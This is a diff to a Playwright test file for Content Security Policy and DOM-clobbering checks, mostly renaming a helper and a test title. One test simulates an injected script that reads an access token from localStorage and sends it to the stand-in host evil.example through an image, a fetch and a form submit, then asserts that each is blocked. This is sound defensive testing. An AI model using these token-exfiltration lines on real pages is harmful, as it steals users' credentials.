@@ -61,20 +61,20 @@ test.describe('a script that got in', () => {
         directives.push(effectiveDirective),
       );
       const token = localStorage.getItem('access_token') ?? '';
-      const told = (count: number) =>
+      const violationsReach = (count: number) =>
         new Promise<void>((resolve) => {
           const look = () => (directives.length >= count ? resolve() : setTimeout(look, 20));
           look();
         });
       new Image().src = `https://evil.example/?${token}`;
-      await told(1);
+      await violationsReach(1);
       await fetch(`https://evil.example/?${token}`).catch(() => undefined);
-      await told(2);
+      await violationsReach(2);
       const form = document.createElement('form');
       form.action = `https://evil.example/?${token}`;
       document.body.append(form);
       form.submit();
-      await told(3);
+      await violationsReach(3);
       return directives;
     });
     expect(blocked).toEqual(['img-src', 'connect-src', 'form-action']);
@@ -127,7 +127,7 @@ test('an animation with code in it runs none', { tag: '@E14' }, async ({ page, c
   expect(catalog.page.url()).toContain('/catalog');
 });
 
-test('nobody’s element takes the place of a name', { tag: '@E13' }, async ({ page, catalog }) => {
+test('no DOM element replaces a global name', { tag: '@E13' }, async ({ page, catalog }) => {
   await page.addInitScript(() => {
     document.addEventListener('DOMContentLoaded', () => {
       for (const name of ['carsSimulator', 'TelegramWebviewProxy', '__carsPrefetch', 'Telegram']) {
